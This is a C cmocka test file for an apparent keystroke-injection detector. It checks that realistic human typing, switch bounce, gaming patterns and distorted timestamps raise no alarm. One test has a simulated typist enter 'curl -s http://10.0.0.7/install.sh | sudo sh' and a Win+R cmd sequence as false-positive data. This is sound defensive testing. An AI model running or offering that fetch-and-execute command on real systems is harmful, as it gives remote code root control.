/* People who must be left alone: the recorded ones, mashing, games, bouncing switches, captures that lie about time. */
#include <stdarg.h>
#include <setjmp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <math.h>

#include "typing_feed.h"
#include "typing_people.h"

enum { EDGES_MAX = 4096, REPORTS_MAX = EDGES_MAX + 1 };

static const int64_t MS = 1000000;
static struct key_edge edge[EDGES_MAX];
static struct key_report report[REPORTS_MAX];
static size_t edges;

static void recorded_people(void **state)
{
	static const double at[][2] = {{1, 0}, {2, 0}, {8, 0}, {15.6, 0}, {8, 15.6}};
	struct person *people;
	size_t count = people_load(PEOPLE_DIR, &people);
	uint32_t keys = 0;

	(void)state;
	if (!count) {
		people_free(people, count);
		print_message("skipped: %s is absent\n", PEOPLE_DIR);
		skip();
	}
	for (size_t i = 0; i < count; i++) {
		/* One poll each under the sanitizers, all of them in bench-typing. */
		const double *a = at[i % 5];
		struct feed f = {.poll_ms = a[0], .clock_ms = a[1], .seed = people[i].id};
		struct key_report *r = calloc(people[i].edges + 1, sizeof(*r));
		size_t n = feed_render(&f, people[i].edge, people[i].edges, r, people[i].edges + 1);
		struct feed_result result = feed_judge(&f, r, n, 0, 0);

		if (result.first_key)
			print_message("person %u alarms at key %u\n", people[i].id,
			              result.first_key);
		assert_int_equal(result.first_key, 0);
		keys += result.keys;
		free(r);
	}
	assert_true(keys > 500 * count);
	people_free(people, count);
}

/* In steps that nothing says, from those in which a hold just fits to those in which whole words do. */
static void recorded_people_by_rough_clocks(void **state)
{
	static const double clock_ms[] = {20, 31.25, 40, 62.5, 100, 250, 1000};
	struct person *people;
	size_t count = people_load(PEOPLE_DIR, &people);
	unsigned alarms = 0;

	(void)state;
	if (!count) {
		people_free(people, count);
		print_message("skipped: %s is absent\n", PEOPLE_DIR);
		skip();
	}
	for (size_t i = 0; i < count; i++) {
		struct feed f = {.poll_ms = 8, .clock_ms = clock_ms[i % 7], .seed = people[i].id};
		struct key_report *r = calloc(people[i].edges + 1, sizeof(*r));
		size_t n = feed_render(&f, people[i].edge, people[i].edges, r, people[i].edges + 1);
		struct feed_result result = feed_judge(&f, r, n, 0, 0);

		if (result.first_key)
			print_message("person %u alarms at key %u in steps of %.2f ms\n",
			              people[i].id, result.first_key, f.clock_ms);
		alarms += result.first_key > 0;
		free(r);
	}
	people_free(people, count);
	assert_int_equal(alarms, 0);
}

static void key(double at_ms, uint8_t usage, double hold_ms)
{
	edge[edges] =
		(struct key_edge){(int64_t)(at_ms * (double)MS), (uint32_t)edges, usage, true};
	edge[edges + 1] = (struct key_edge){(int64_t)((at_ms + hold_ms) * (double)MS),
	                                    (uint32_t)edges + 1, usage, false};
	edges += 2;
}

/* The same edges at several polls and clocks; the highest ratio of all. */
static float quiet(void)
{
	static const double at[][2] = {{1, 0}, {4, 0}, {8, 0}, {10, 0}, {15.6, 0}, {8, 15.6}};
	float highest = 0;

	feed_sort(edge, edges);
	for (unsigned i = 0; i < sizeof(at) / sizeof(at[0]); i++) {
		struct feed f = {.poll_ms = at[i][0], .clock_ms = at[i][1], .seed = i};
		size_t n = feed_render(&f, edge, edges, report, REPORTS_MAX);
		struct feed_result r = feed_judge(&f, report, n, 0, 0);

		assert_int_equal(r.first_key, 0);
		highest = r.highest > highest ? r.highest : highest;
	}
	edges = 0;
	return highest;
}

static void mashing(void **state)
{
	struct random r;

	(void)state;
	for (unsigned seed = 0; seed < 10; seed++) {
		double at = 0, up[26] = {0};

		random_init(&r, seed);
		for (unsigned i = 0; i < 150; i++) {
			unsigned letter = random_below(&r, 26);
			double hold = random_uniform(&r, 40, 140);

			at += random_chance(&r, 0.15) ? random_uniform(&r, 60, 300)
			                              : random_uniform(&r, 0, 35);
			if (at < up[letter] + 45)
				continue;
			up[letter] = at + hold;
			key(at, (uint8_t)(0x04 + letter), hold);
		}
		quiet();
	}
}

/* Both hands down at once, again and again. */
static void chords(void **state)
{
	struct random r;

	(void)state;
	random_init(&r, 7);
	for (unsigned chord = 0; chord < 60; chord++) {
		double sway = 12 * random_normal(&r);

		for (unsigned finger = 0; finger < 5; finger++)
			key(chord * 210.0 + sway + random_uniform(&r, 0, 18),
			    (uint8_t)(0x04 + (chord * 3 + finger * 5) % 26),
			    random_uniform(&r, 50, 110));
	}
	quiet();
}

/* Fingers that roll, hand after hand, without a rest; and ten that fall as one, as fast as arms can. */
static void drumming(void **state)
{
	static const double pace[] = {22, 28, 36, 48};
	struct random r;

	(void)state;
	for (unsigned seed = 0; seed < 12; seed++) {
		double at = 0;

		random_init(&r, seed);
		for (unsigned i = 0; i < 240; i++) {
			at += pace[seed % 4] * exp(0.25 * random_normal(&r));
			key(at, (uint8_t)(0x04 + i % 8), 70 * exp(0.2 * random_normal(&r)));
		}
		quiet();
		at = 0;
		for (unsigned fall = 0; fall < 24; fall++) {
			at += 160 + 20 * random_normal(&r);
			for (unsigned finger = 0; finger < 10; finger++)
				key(at + random_uniform(&r, 0, 40), (uint8_t)(0x04 + finger),
				    70 * exp(0.2 * random_normal(&r)));
		}
		quiet();
	}
}

static void games(void **state)
{
	static const uint8_t wasd[] = {0x1a, 0x04, 0x16, 0x07};
	struct random r;
	double at = 0;

	(void)state;
	random_init(&r, 1);
	for (unsigned i = 0; i < 200; i++) {
		key(at, wasd[random_below(&r, 2) * 2 + i % 2], random_uniform(&r, 60, 900) / 2);
		at += random_uniform(&r, 470, 900);
	}
	quiet();
	/* One key, struck as evenly as a hand can. */
	at = 0;
	for (unsigned i = 0; i < 200; i++) {
		key(at, 0x2c, 60 + 4 * random_normal(&r));
		at += 140 + 5 * random_normal(&r);
	}
	quiet();
	/* Two keys in turn. */
	at = 0;
	for (unsigned i = 0; i < 200; i++) {
		key(at, i % 2 ? 0x04 : 0x07, 60 + 4 * random_normal(&r));
		at += 110 + 5 * random_normal(&r);
	}
	quiet();
}

/* A worn switch closes twice, every third key. */
static void bounce(void **state)
{
	struct random r;
	double at = 0;

	(void)state;
	random_init(&r, 2);
	for (unsigned i = 0; i < 200; i++) {
		uint8_t usage = (uint8_t)(0x04 + random_below(&r, 26));
		double hold = random_uniform(&r, 60, 120);

		if (i % 3 == 0) {
			double short_ms = random_uniform(&r, 2, 9);

			key(at, usage, short_ms);
			key(at + short_ms + random_uniform(&r, 3, 12), usage, hold);
		} else {
			key(at, usage, hold);
		}
		at += random_uniform(&r, 160, 420);
	}
	quiet();
}

/* One that is worn out: it closes up to seven times at once. */
static void chatter(void **state)
{
	struct random r;
	double at = 0;

	(void)state;
	random_init(&r, 8);
	for (unsigned i = 0; i < 200; i++) {
		uint8_t usage = (uint8_t)(0x04 + random_below(&r, 26));
		double from = at;

		for (unsigned left = i % 3 ? 0 : random_below(&r, 7); left; left--) {
			double short_ms = random_uniform(&r, 1, 9);

			key(from, usage, short_ms);
			from += short_ms + random_uniform(&r, 1, 12);
		}
		key(from, usage, random_uniform(&r, 60, 120));
		at += random_uniform(&r, 250, 420);
	}
	quiet();
}

/* A keyboard whose driver gives every hold as one report for a while: runs of 10 and 13 were seen. */
static void run_of_short_holds(void **state)
{
	struct random r;
	double at = 0;

	(void)state;
	random_init(&r, 4);
	for (unsigned i = 0; i < 300; i++) {
		bool odd = i % 60 >= 40 && i % 60 < 53;

		key(at, (uint8_t)(0x04 + (i * 7) % 26),
		    odd ? random_uniform(&r, 1, 17) : 80 + 20 * random_normal(&r));
		at += fmax(105, 190 * exp(0.4 * random_normal(&r)));
	}
	quiet();
}

static void typist(struct typist *t, const char *text, uint64_t seed)
{
	static struct keystroke keys[512];
	struct random r;

	random_init(&r, seed);
	typist_person(t, &r);
	edges = typist_type(t, &r, keys, us_keystrokes(text, true, keys, 512), 0, edge, EDGES_MAX);
}

static void commands_typed_by_hand(void **state)
{
	struct typist t;

	(void)state;
	for (uint64_t seed = 0; seed < 20; seed++) {
		typist(&t, "curl -s http://10.0.0.7/install.sh | sudo sh<ENTER>", seed);
		quiet();
		typist(&t, "<GUI+r><WAIT 600>cmd<ENTER><WAIT 900>ipconfig /all<ENTER>exit<ENTER>",
		       seed);
		quiet();
	}
}

/* Idle rate: every report is sent again and again. Nothing that is not new may count. */
static void reports_sent_again(void **state)
{
	struct feed f = {.poll_ms = 8};
	struct typist t;
	struct feed_result once, again;
	size_t n;

	(void)state;
	typist(&t,
	       "the same report comes again every few milliseconds for as long as nothing changes",
	       3);
	n = feed_render(&f, edge, edges, report, REPORTS_MAX / 2);
	edges = 0;
	once = feed_judge(&f, report, n, 0, 0);
	for (size_t i = n; i-- > 0;) {
		report[2 * i] = report[i];
		report[2 * i + 1] = report[i];
		report[2 * i + 1].flags |= KEYS_REPEATED;
		report[2 * i + 1].presses = report[2 * i + 1].releases = 0;
		report[2 * i + 1].t_ns += 4 * MS;
	}
	again = feed_judge(&f, report, 2 * n, 0, 0);
	assert_int_equal(once.keys, again.keys);
	assert_true(once.highest == again.highest);
}

/* A host that stamps late, and a capture that steps back 150 ms now and then. */
static void times_that_lie(void **state)
{
	struct feed f = {.poll_ms = 8};
	struct typist t;
	size_t n;

	(void)state;
	for (unsigned seed = 0; seed < 6; seed++) {
		typist(&t,
		       "some hosts write down when they came to look and not when it happened at "
		       "all",
		       seed);
		n = feed_render(&f, edge, edges, report, REPORTS_MAX);
		edges = 0;
		for (size_t i = 0; i < n; i++)
			if (i % 12 > 6 && i >= 12)
				report[i].t_ns =
					report[i - i % 12 + 6].t_ns + (int64_t)(i % 12) * 20000;
		assert_int_equal(feed_judge(&f, report, n, 0, 0).first_key, 0);
		for (size_t i = 0; i < n; i++)
			report[i].t_ns -= i % 9 == 4 ? 150 * MS : 0;
		assert_int_equal(feed_judge(&f, report, n, 0, 0).first_key, 0);
	}
}

/* The same, but evenly, at distances that a faster poll might have. */
static void heaps_that_look_like_a_poll(void **state)
{
	static const double apart_ms[] = {0.125, 0.25, 1, 2};
	struct feed f = {.poll_ms = 8};
	struct typist t;
	size_t n;

	(void)state;
	for (unsigned seed = 0; seed < 8; seed++) {
		int64_t apart_ns = (int64_t)(apart_ms[seed % 4] * 1e6);

		typist(&t, "a hub far away hands on what it has, all of it at once, then nothing",
		       seed);
		n = feed_render(&f, edge, edges, report, REPORTS_MAX);
		edges = 0;
		for (size_t i = 12; i < n; i++)
			if (i % 10 > 4)
				report[i].t_ns = report[i - i % 10 + 4].t_ns +
				                 (int64_t)(i % 10 - 4) * apart_ns;
		assert_int_equal(feed_judge(&f, report, n, 0, 0).first_key, 0);
	}
}

static void one_key_a_second(void **state)
{
	struct random r;

	(void)state;
	random_init(&r, 11);
	for (unsigned i = 0; i < 120; i++)
		key(i * 1000.0 + random_uniform(&r, -250, 250), (uint8_t)(0x04 + i * 7 % 26),
		    random_uniform(&r, 60, 130));
	quiet();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(recorded_people),
		cmocka_unit_test(recorded_people_by_rough_clocks),
		cmocka_unit_test(mashing),
		cmocka_unit_test(chords),
		cmocka_unit_test(drumming),
		cmocka_unit_test(games),
		cmocka_unit_test(bounce),
		cmocka_unit_test(chatter),
		cmocka_unit_test(run_of_short_holds),
		cmocka_unit_test(commands_typed_by_hand),
		cmocka_unit_test(reports_sent_again),
		cmocka_unit_test(times_that_lie),
		cmocka_unit_test(heaps_that_look_like_a_poll),
		cmocka_unit_test(one_key_a_second),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
